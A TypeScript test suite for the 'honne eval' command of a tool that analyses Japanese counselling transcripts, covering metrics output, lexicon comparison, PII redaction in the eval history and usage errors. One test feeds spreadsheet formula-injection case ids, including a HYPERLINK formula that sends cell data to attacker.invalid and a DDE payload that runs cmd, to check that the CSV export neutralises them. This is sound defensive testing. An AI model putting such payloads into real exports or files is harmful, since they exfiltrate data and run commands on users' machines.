/** `honne eval` end to end on the shipped gold set: the JSON contract of the spec, the goals as a
 * regression guard on the dev half only, comparison of lexicon versions, usage errors. The
 * held-out half is never asserted here: a test that gates on it pulls every fix toward its cases
 * (its figures are reported in the README instead). */
import { parse } from 'csv-parse/sync';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { THEME_IDS } from '../../pipeline/themes.js';
import { main, type Io } from '../main.js';

// the eval history goes to a temporary data folder, never the repository's
const dataDir = mkdtempSync(join(tmpdir(), 'honne-eval-data-'));
afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

async function honne(args: string[], extra: Record<string, string> = {}) {
  const env = { HONNE_DATA_DIR: dataDir, ...extra };
  const out: string[] = [];
  const err: string[] = [];
  const io: Io = { out: (t) => out.push(t), err: (t) => err.push(t), env, now: () => new Date('2026-11-25T00:00:00Z') };
  const code = await main(['node', 'honne', ...args], io);
  return { code, out: out.join('\n'), err: err.join('\n') };
}

interface Json {
  split: string;
  lineage: { version: string; prompt_hash: { ja: string; en: string } };
  cases_total: number;
  themes: { micro: { f1: number }; macro: { f1: number }; per_theme: Record<string, { precision: number | null; recall: number | null; f1: number | null; tp: number; fp: number; fn: number }> };
  signals: Record<string, { accuracy: number; confusion: Record<string, Record<string, number>> }>;
  pii: { recall: number; leaked: Array<{ case: string; text: string; part?: string }> };
  cases: Array<{ id: string; split: string; ms: number }>;
  compare?: { lineage: { version: string; prompt_hash: { ja: string; en: string } }; comparison: { metrics: Array<{ metric: string }>; cases: unknown[] } };
}

describe('honne eval', () => {
  it('prints the spec’s JSON and keeps the goals on the dev half', async () => {
    const r = await honne(['eval', '--split', 'dev', '--json']);
    expect(r.code).toBe(0);
    const j = JSON.parse(r.out) as Json;
    expect(j.split).toBe('dev');
    expect(j.cases_total).toBeGreaterThanOrEqual(30);
    expect(j.cases.every((c) => c.split === 'dev' && c.ms > 0)).toBe(true);
    expect(Object.keys(j.themes.per_theme).sort()).toEqual([...THEME_IDS].sort());
    for (const t of Object.values(j.themes.per_theme)) expect(Object.keys(t)).toEqual(expect.arrayContaining(['precision', 'recall', 'f1', 'tp', 'fp', 'fn']));
    expect(Object.keys(j.signals.retention_risk!.confusion)).toEqual(['low', 'medium', 'high']);
    expect(Array.isArray(j.pii.leaked)).toBe(true);
    // The goals of issue 3, as a regression guard on the half we tune on.
    expect(j.pii.recall).toBeGreaterThanOrEqual(0.98);
    expect(j.themes.micro.f1).toBeGreaterThanOrEqual(0.8);
    expect(j.signals.retention_risk!.accuracy).toBeGreaterThanOrEqual(0.75);
    expect(j.signals.mental_health_risk!.accuracy).toBeGreaterThanOrEqual(0.75);
  });

  it('compares two lexicon versions side by side, with the cases that differ', async () => {
    const r = await honne(['eval', '--split', 'dev', '--prompt', 'lexicon@2026.11.2', '--compare', 'lexicon@2026.11.1', '--json']);
    expect(r.code).toBe(0);
    const j = JSON.parse(r.out) as Json;
    expect(j.lineage.version).toBe('lexicon-2026.11.2');
    expect(j.compare?.lineage.version).toBe('lexicon-2026.11.1');
    expect(j.compare?.comparison.metrics[0]).toMatchObject({ metric: 'themes.micro.f1' });
    expect(j.compare?.comparison.cases.length).toBeGreaterThan(0);
    const text = await honne(['eval', '--split', 'dev', '--compare', 'lexicon@2026.11.1']);
    const hashes = ' \\(ja [0-9a-f]{12}, en [0-9a-f]{12}\\)';
    expect(text.out).toMatch(new RegExp(`^honne eval — fixtures/gold \\(dev, \\d+ cases\\) — local/rules/lexicon-2026\\.12\\.14${hashes}$`, 'm'));
    expect(text.out).toMatch(new RegExp(`^Comparison: A = local/rules/lexicon-2026\\.12\\.14${hashes}, B = local/rules/lexicon-2026\\.11\\.1${hashes}$`, 'm'));
    expect(text.out).toMatch(/^PII recall \d\.\d{3} \(\d+\/\d+ strings absent from the redacted text\)$/m);
  });

  it('runs the working copy (lexicon@working, under HONNE_PROMPTS_DIR) against a saved version', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'honne-eval-prompts-'));
    try {
      const working = join(dir, 'lexicon', 'working');
      cpSync(new URL('../../prompts/lexicon/2026.12.1', import.meta.url), working, { recursive: true });
      const env = { HONNE_PROMPTS_DIR: dir };
      const same = JSON.parse((await honne(['eval', '--split', 'dev', '--prompt', 'lexicon@working', '--compare', 'lexicon@2026.12.1', '--json'], env)).out) as Json;
      expect(same.lineage.version).toBe('lexicon-working');
      expect(same.compare?.comparison.cases).toEqual([]);
      // A draft with a much higher theme threshold: cases lose themes, and its hash changes.
      const ja = JSON.parse(readFileSync(join(working, 'ja.json'), 'utf8')) as { calibration: { theme_min_confidence: number } };
      ja.calibration.theme_min_confidence = 0.99;
      writeFileSync(join(working, 'ja.json'), JSON.stringify(ja));
      const edited = JSON.parse((await honne(['eval', '--split', 'dev', '--prompt', 'lexicon@working', '--compare', 'lexicon@2026.12.1', '--json'], env)).out) as Json;
      expect(edited.lineage.prompt_hash.ja).not.toBe(same.lineage.prompt_hash.ja);
      expect(edited.lineage.prompt_hash.en).toBe(same.lineage.prompt_hash.en);
      expect(edited.compare?.comparison.cases.length).toBeGreaterThan(0);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('exports a gold set whose case ids a spreadsheet would run as formulas as text', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'honne-eval-formula-'));
    try {
      const gold = join(dir, 'gold');
      mkdirSync(gold);
      writeFileSync(join(gold, 't.txt'), 'CC: 最近はいかがですか。\n社員: 夜勤が増えて体がきついです。\n');
      const ids = ['=HYPERLINK("http://attacker.invalid/?"&A1,"open")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '－1+2', '+3'];
      writeFileSync(join(gold, 'cases.jsonl'), ids.map((id) => JSON.stringify({ id, transcript: 't.txt', consultant_speaker: 'CC', labels: { themes: ['health'], retention_risk: 'low', mental_health_risk: 'medium' } })).join('\n') + '\n');
      const csv = join(dir, 'cases.csv');
      const r = await honne(['eval', '--gold', gold, '--export', csv, '--no-history']);
      expect(r.code).toBe(0);
      const rows = parse(readFileSync(csv, 'utf8'), { bom: true, columns: true }) as Array<Record<string, string>>;
      expect(rows.map((row) => row.id)).toEqual(ids.map((id) => `'${id}`));
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('keeps no PII string in the eval history: neither what leaked nor what was redacted', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'honne-eval-history-'));
    const data = join(dir, 'data');
    try {
      const gold = join(dir, 'gold');
      mkdirSync(gold);
      // a code name redaction cannot know (it leaks) and a phone number (it is redacted)
      writeFileSync(join(gold, 't.txt'), 'CC: 最近はいかがですか。\n社員: プロジェクトＺＥＰＨＹＲで夜勤が増えて、電話は090-1234-5678です。\n');
      writeFileSync(join(gold, 'cases.jsonl'), JSON.stringify({ id: 'h-1', transcript: 't.txt', consultant_speaker: 'CC', labels: { themes: ['health'], retention_risk: 'low', mental_health_risk: 'medium', pii: ['ＺＥＰＨＹＲ'] } }) + '\n');
      const r = await honne(['eval', '--gold', gold, '--json'], { HONNE_DATA_DIR: data });
      expect(r.code).toBe(0);
      const j = JSON.parse(r.out) as Json & { pii: { over_redacted: Array<{ text: string }> } };
      // the run itself shows both, to the one who runs it
      expect(j.pii.leaked.map((l) => l.text)).toEqual(['ＺＥＰＨＹＲ']);
      expect(j.pii.over_redacted.map((o) => o.text)).toEqual(['090-1234-5678']);
      const saved = /saved to the eval history: (.+)$/m.exec(r.err)![1]!;
      const bytes = readFileSync(saved, 'utf8');
      for (const s of ['ＺＥＰＨＹＲ', 'ZEPHYR', '090-1234-5678']) expect(bytes, s).not.toContain(s);
      const history = JSON.parse(bytes) as Json;
      expect(history.pii.recall).toBe(0);
      expect(history.pii.leaked).toEqual([{ case: 'h-1' }]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('attack: keeps no case id named after its person in the eval history (neither erase nor retention reaches it)', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'honne-eval-named-'));
    const data = join(dir, 'data');
    try {
      const gold = join(dir, 'gold');
      mkdirSync(gold);
      writeFileSync(join(gold, 't.txt'), 'CC: 最近はいかがですか。\n社員: 鷲尾です。残業が続いて眠れない日があります。\n');
      const c = (id: string, pii: string[]) => JSON.stringify({ id, transcript: 't.txt', consultant_speaker: 'CC', labels: { themes: ['health'], retention_risk: 'low', mental_health_risk: 'medium', pii } });
      // a romaji full name nobody labelled, a piece of the case's own label, and a plain id
      // … a kana full name nobody labelled, and the given name's reading alone (ENAMDICT has 楓 as かえで for a surname only)
      writeFileSync(join(gold, 'cases.jsonl'), [c('g-Kuroda-Ayaka', []), c('鷲尾_01', ['鷲尾 遥斗']), c('h-2', ['鷲尾']), c('g-クロダ_アヤカ', []), c('g-kaede-3', ['森本 楓'])].join('\n') + '\n');
      const r = await honne(['eval', '--gold', gold, '--json'], { HONNE_DATA_DIR: data });
      expect(r.code).toBe(0);
      const saved = /saved to the eval history: (.+)$/m.exec(r.err)![1]!;
      const bytes = readFileSync(saved, 'utf8');
      for (const s of ['Kuroda', 'Ayaka', '鷲尾', 'クロダ', 'kaede']) expect(bytes, s).not.toContain(s);
      const withheld = '[case id withheld: it holds a name]';
      expect((JSON.parse(bytes) as { cases: Array<{ id: string }> }).cases.map((x) => x.id)).toEqual([withheld, withheld, 'h-2', withheld, withheld]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it.each([
    [['eval', '--prompt', 'lexicon@working'], /configuration error: cannot read the working lexicon: no working copy/],
    [['eval', '--gold', 'nowhere'], /usage error: --gold: no cases.jsonl in .*nowhere/],
    [['eval', '--prompt', 'lexicon'], /usage error: --prompt must look like NAME@VERSION/],
    [['eval', '--prompt', 'lexicon@1999.1.1'], /configuration error: unknown lexicon version "1999.1.1" \(available: lexicon-2026.12.14, lexicon-2026.12.13, lexicon-2026.12.12, lexicon-2026.12.11, lexicon-2026.12.10, lexicon-2026.12.9, lexicon-2026.12.8, lexicon-2026.12.7, lexicon-2026.12.6, lexicon-2026.12.5, lexicon-2026.12.4, lexicon-2026.12.3, lexicon-2026.12.2, lexicon-2026.12.1, lexicon-2026.11.4, lexicon-2026.11.3, lexicon-2026.11.2, lexicon-2026.11.1\)/],
    [['eval', '--prompt', 'triage@v1'], /configuration error: unknown prompt "triage" \(available: analysis\)/],
    [['eval', '--prompt', 'analysis@1999.1.1'], /configuration error: unknown analysis prompt version "1999.1.1" \(available: 2026.12.1, working\)/],
    [['eval', '--provider', 'openai'], /configuration error: HONNE_PROVIDER=openai needs OPENAI_API_KEY/],
    [['eval', '--split', 'train'], /argument 'train' is invalid/],
  ])('exits 2 on %j', async (args, message) => {
    const r = await honne(args);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(message);
  });
});
